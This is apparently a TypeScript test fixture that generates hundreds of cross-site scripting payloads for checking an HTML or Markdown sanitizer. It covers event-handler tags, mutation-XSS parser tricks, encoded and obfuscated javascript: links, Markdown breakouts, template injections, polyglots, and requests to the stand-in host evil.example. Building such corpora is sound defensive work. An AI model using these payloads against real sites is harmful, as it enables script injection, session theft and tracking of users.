/**
 * Texts that try to act where they are shown. Each that comes to act sets `pwned` to its own number or asks for
 * something of `evil.example`. They are made of parts, so that a new part meets all the others.
 */

type Template = (js: string) => string;

/** Elements that run something by themselves, where a page lets them through. */
const elements: Template[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<img srcset="x 1x" onerror="${js}">`,
  (js) => `<image href=x onerror=${js}>`,
  (js) => `<picture><source srcset=x><img onerror=${js} src=x></picture>`,
  (js) => `<video src=x onerror=${js}></video>`,
  (js) => `<video><source src=x onerror=${js}></video>`,
  (js) => `<audio src=x onerror=${js}></audio>`,
  (js) => `<body onload=${js}>`,
  (js) => `<body onpageshow=${js}>`,
  (js) => `<iframe onload=${js}></iframe>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<object data=x onerror=${js}></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<select autofocus onfocus=${js}></select>`,
  (js) => `<textarea autofocus onfocus=${js}></textarea>`,
  (js) => `<p contenteditable autofocus onfocus=${js}>x</p>`,
  (js) => `<p tabindex=0 autofocus onfocus=${js}>x</p>`,
  (js) => `<details open ontoggle=${js}>x</details>`,
  (js) => `<style onload=${js}></style>`,
  (js) => `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${js}>x</p>`,
  (js) => `<p style="transition:color 1s" ontransitionrun=${js}>x</p>`,
  (js) => `<link rel=stylesheet href=x onerror=${js}>`,
  (js) => `<marquee onstart=${js}>x</marquee>`,
  (js) => `<p popover onbeforetoggle=${js}>x</p>`,
  (js) => `<form onsubmit=${js}><button autofocus>x</button></form>`,
  (js) => `<button formaction="javascript:${js}" form=f autofocus>x</button>`,
  (js) => `<svg onload=${js}></svg>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:,${js}"></script></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></animate></svg>`,
  (js) => `<svg><set onbegin=${js} attributeName=x to=y></set></svg>`,
  (js) => `<svg><a href="javascript:${js}"><text y=20>x</text></a></svg>`,
  (js) => `<svg><a><animate attributeName=href to="javascript:${js}"></animate><text y=9>x</text></a></svg>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  (js) => `<svg><image href=x onerror=${js}></image></svg>`,
  (js) => `<math><a href="javascript:${js}">x</a></math>`,
  (js) => `<math><mtext></mtext><img src=x onerror=${js}></math>`,
  (js) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${js}></annotation-xml></math>`,
  (js) => `<dl-comments onclick=${js}><template shadowrootmode=open><img src=x onerror=${js}></template></dl-comments>`,
];

/** Elements whose inside a parser may read in two ways, and act in the second. */
const mutations: Template[] = [
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<title><p id="</title><img src=x onerror=${js}>">`,
  (js) => `<textarea><p id="</textarea><img src=x onerror=${js}>">`,
  (js) => `<xmp><p id="</xmp><img src=x onerror=${js}>">`,
  (js) => `<noembed><p id="</noembed><img src=x onerror=${js}>">`,
  (js) => `<iframe><p id="</iframe><img src=x onerror=${js}>">`,
  (js) => `<svg><style><p id="</style><img src=x onerror=${js}>">`,
  (js) => `<math><mi><style><p id="</style><img src=x onerror=${js}>">`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${js}>">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${js}>`,
  (js) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  (js) => `<table><td><svg><desc><td><title><p id="</title><img src=x onerror=${js}>">`,
  (js) => `<select><template><style><!--</style><img src=x onerror=${js}>--></template></select>`,
  (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<!--!><img src=x onerror=${js}>--!>`,
  (js) => `<![CDATA[><img src=x onerror=${js}>]]>`,
  (js) => `<svg><![CDATA[</svg><img src=x onerror=${js}>]]>`,
  (js) => `<?xml version="1.0"?><img src=x onerror=${js}>`,
  (js) => `</p></div></li></ol></dl-comments><img src=x onerror=${js}>`,
  (js) => `</blockquote></main><script>${js}</script>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `--></script></style></title><img src=x onerror=${js}>`,
  (js) => `]]></content></entry><script xmlns="http://www.w3.org/1999/xhtml">${js}</script>`,
  (js) => `"></a></script><script>${js}</script>{"@type":"`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
];

/** An element's own writing, in ways that parsers forgive. */
const writings: ((js: string) => string)[] = [
  (js) => `<img/src=x/onerror=${js}>`,
  (js) => `<img\tsrc=x\tonerror=${js}>`,
  (js) => `<img\nsrc=x\nonerror=${js}>`,
  (js) => `<IMG SRC=x ONERROR=${js}>`,
  (js) => `<iMg sRc=x OnErRoR=${js}>`,
  (js) => `<img src=x onerror =${js}>`,
  (js) => `<img src=x onerror= '${js}'>`,
  (js) => `<img src=x onerror=\`${js}\`>`,
  (js) => `<img src=x onerror="${js}"`,
  (js) => `<img src=x onerror=${js}//`,
  (js) => `<img src=x onerror=${js} <`,
  (js) => `<<img src=x onerror=${js}>>`,
  (js) => `<img """><script>${js}</script>">`,
  (js) => `<img src="x" alt='"' onerror=${js}>`,
  (js) => `<img src=x onerror=${js}\u00a0>`,
  (js) => `<img\u2028src=x onerror=${js}>`,
  (js) => `<im\u200bg src=x onerror=${js}>`,
  (js) => `<\u202eimg src=x onerror=${js}>`,
  (js) => `<\ufeffimg src=x onerror=${js}>`,
  (js) => `<scr\u00adipt>${js}</scr\u00adipt>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<ſcript>${js}</ſcript>`,
  (js) => `<ıframe onload=${js}>`,
  (js) => `＜script＞${js}＜/script＞`,
  (js) => `‹script›${js}‹/script›`,
  (js) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
  (js) => `<a href="x" href="javascript:${js}">x</a>`,
  (js) => `<script/src=data:,${js}>`,
  (js) => `<script\u0301>${js}</script\u0301>`,
  (js) => `<p/onclick=${js}/style=position:fixed;inset:0>x`,
];

/** The same, so that it becomes markup only where it is decoded once too often. */
const encodings: ((html: string) => string)[] = [
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (html) => html.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (html) => html.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (html) => html.replaceAll('<', '&#x3c;').replaceAll('>', '&#x3E;'),
  (html) => html.replaceAll('<', '&#0000060').replaceAll('>', '&#0000062'),
  (html) => html.replaceAll('<', '&LT').replaceAll('>', '&GT'),
  (html) => encodeURIComponent(html),
  (html) => encodeURIComponent(encodeURIComponent(html)),
  (html) => html.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  (html) => html.replaceAll('<', '\\<').replaceAll('>', '\\>'),
  (html) => html.replaceAll('<', '\\74').replaceAll('>', '\\76'),
  (html) => html.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
];

/** Addresses that run something, in ways that only some programs see. */
const addresses: Template[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => ` javascript:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `java\u200bscript:${js}`,
  (js) => `javascript\u00ad:${js}`,
  (js) => `javascript&colon;${js}`,
  (js) => `javascript&#58;${js}`,
  (js) => `javascript&#x3a;${js}`,
  (js) => `&#106;avascript:${js}`,
  (js) => `&#x6A&#x61vascript:${js}`,
  (js) => `java&Tab;script:${js}`,
  (js) => `java&NewLine;script:${js}`,
  (js) => `&#1;javascript:${js}`,
  (js) => `javascript\\:${js}`,
  (js) => `javascript%3A${js}`,
  (js) => `javascript://evil.example/%0a${js}`,
  (js) => `javascript://https://a.example/%0A${js}`,
  (js) => `https://a.example/%0d%0ajavascript:${js}`,
  (js) => `feed:javascript:${js}`,
  (js) => `view-source:javascript:${js}`,
  (js) => `vbscript:${js}`,
  (js) => `jav\u0430script:${js}`,
  (js) => `javascript\uff1a${js}`,
  (js) => `https:javascript:${js}`,
  (js) => `x:javascript:${js}`,
  (js) => `data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${js}</x:script>`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
  (js) => `data:image/svg+xml,<svg onload=${js}>`,
  (js) => `blob:https://a.example/${js}`,
  (js) => `//evil.example/${js}`,
  (js) => `\\\\evil.example/${js}`,
  (js) => `/\\evil.example/${js}`,
];

/** What Markdown makes of an address. */
const links: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][r]\n\n[r]: ${address}`,
  (address) => `<a href="${address}">x</a>`,
];

/** Out of a link's or code's own writing. */
const breakouts: Template[] = [
  (js) => `[x](https://a.example/"onmouseover=${js} style=position:fixed;inset:0)`,
  (js) => `[x](https://a.example/'onclick='${js})`,
  (js) => `[x](https://a.example "x\\" onclick=${js} y=\\"")`,
  (js) => `[x](https://a.example 'x" onclick=${js} y="')`,
  (js) => `[x](https://a.example/&quot;onclick=${js})`,
  (js) => `[x](https://a.example/&#34;>&lt;img src=x onerror=${js}>)`,
  (js) => `[x](https://a.example/<img src=x onerror=${js}>)`,
  (js) => `[x"><img src=x onerror=${js}>](https://a.example)`,
  (js) => `[<img src=x onerror=${js}>](https://a.example)`,
  (js) => `[![x](x "onerror=${js}")](javascript:${js})`,
  (js) => `[x](https://[">${js}]/)`,
  (js) => `https://a.example/"onmouseover="${js}"x="`,
  (js) => `https://a.example/'><img/src=x/onerror=${js}>`,
  (js) => `https://a.example/?<svg/onload=${js}>`,
  (js) => `https://a.example\`onclick=${js}\``,
  (js) => `https://"onclick=${js}@a.example/`,
  (js) => `<https://a.example/"onclick=${js}>`,
  (js) => `<https://a.example/><script>${js}</script>>`,
  (js) => `\`</code><script>${js}</script>\``,
  (js) => `\`\`<img src=x onerror=${js}>\`\``,
  (js) => `\`\`\`html"onmouseover=${js}\n<script>${js}</script>\n\`\`\``,
  (js) => `**<script>${js}</script>**`,
  (js) => `*<img src=x onerror=${js}*>`,
  (js) => `> <script>\n> ${js}\n> </script>`,
  (js) => `>>>>><img src=x onerror=${js}>`,
  (js) => `<script\n\n>${js}</script\n\n>`,
  (js) => `    <script>${js}</script>`,
  (js) => `- <script>${js}</script>`,
  (js) => `# <img src=x onerror=${js}>`,
  (js) => `|x|\n|-|\n|<img src=x onerror=${js}>|`,
  (js) => `*[x]: "><img src=x onerror=${js}>`,
  (js) => `[^1]: <img src=x onerror=${js}>`,
];

/** For whatever fills in texts afterwards. */
const templates: Template[] = [
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `{{=<% %>=}}<%${js}%>`,
  (js) => `\${${js}}`,
  (js) => `\`+(${js})+\``,
  (js) => `#{${js}}`,
  (js) => `<%= ${js} %>`,
  (js) => `{% raw %}${js}{% endraw %}`,
  (js) => `{@html '<img src=x onerror=${js}>'}`,
  (js) => `<p v-html="'<img src=x onerror=${js}>'"></p>`,
  (js) => `<p x-data x-init="${js}"></p>`,
  (js) => `<p ng-app ng-init="${js}"></p>`,
  (js) => `<p hx-on:load="${js}"></p>`,
  (js) => `$& $\` $' <img src=x onerror=${js}>`,
  (js) => `<!--dateline-shell-slot--><img src=x onerror=${js}>`,
  (js) => `dateline-shell-title<img src=x onerror=${js}>`,
  (js) => `'-${js}-'`,
  (js) => `";${js};//`,
  (js) => `</script>\u2028${js}\u2029`,
];

/** What asks for something elsewhere, or sends the reader there. */
const calls: Template[] = [
  (n) => `<img src=https://evil.example/${n}>`,
  (n) => `![x](https://evil.example/${n}.png)`,
  (n) => `<style>@import 'https://evil.example/${n}.css'</style>`,
  (n) => `<p style="background:url(https://evil.example/${n})">x</p>`,
  (n) => `<link rel=preload as=image href=https://evil.example/${n}>`,
  (n) => `<link rel=icon href=https://evil.example/${n}>`,
  (n) => `<base href=https://evil.example/${n}/>`,
  (n) => `<meta http-equiv=refresh content="0;url=https://evil.example/${n}">`,
  (n) => `<iframe src=https://evil.example/${n}></iframe>`,
  (n) => `<object data=https://evil.example/${n}></object>`,
  (n) => `<video autoplay src=https://evil.example/${n}></video>`,
  (n) => `<video poster=https://evil.example/${n}></video>`,
  (n) => `<svg><image href=https://evil.example/${n}></image></svg>`,
  (n) => `<svg><use href="https://evil.example/${n}#x"></use></svg>`,
  (n) => `<script src=https://evil.example/${n}.js></script>`,
  (n) => `<a ping=https://evil.example/${n} href=#>x</a>`,
  (n) => `<input type=image src=https://evil.example/${n}>`,
  (n) => `<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/${n}">]>&e;`,
];

const polyglots: Template[] = [
  (js) => `'"></title></textarea></style></script><svg onload=${js}>[x](javascript:${js})`,
  (js) => `\`\`;'";--><img src=x onerror=${js}>*/${js}//`,
  (js) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='${js}'>*/`,
  (js) => `{{${js}}}\${${js}}<%${js}%><img src=x onerror=${js}>](javascript:${js})`,
  (js) => `*/--></noscript></template><svg><style><img/src=x onerror=${js}//>**_\`[`,
];

const encoded = [elements[0]!, elements[3]!, elements[32]!].flatMap((element) =>
  encodings.map(
    (encode): Template =>
      (js) =>
        encode(element(js)),
  ),
);
const linked = addresses.flatMap((address) =>
  links.map(
    (link): Template =>
      (js) =>
        link(address(js)),
  ),
);

/** Each with its own number in it. */
export const payloads: readonly string[] = [
  ...[elements, mutations, writings, encoded, linked, breakouts, templates, polyglots]
    .flat()
    .map((template, at) => template(`pwned=${at + 1}`)),
  ...calls.map((call, at) => call(`c${at + 1}`)),
];

/** Addresses alone, as a link's own field takes them: each with a number that no payload has. */
export const hostileAddresses: readonly string[] = addresses.map((address, at) => address(`pwned=${at + 9_001}`));
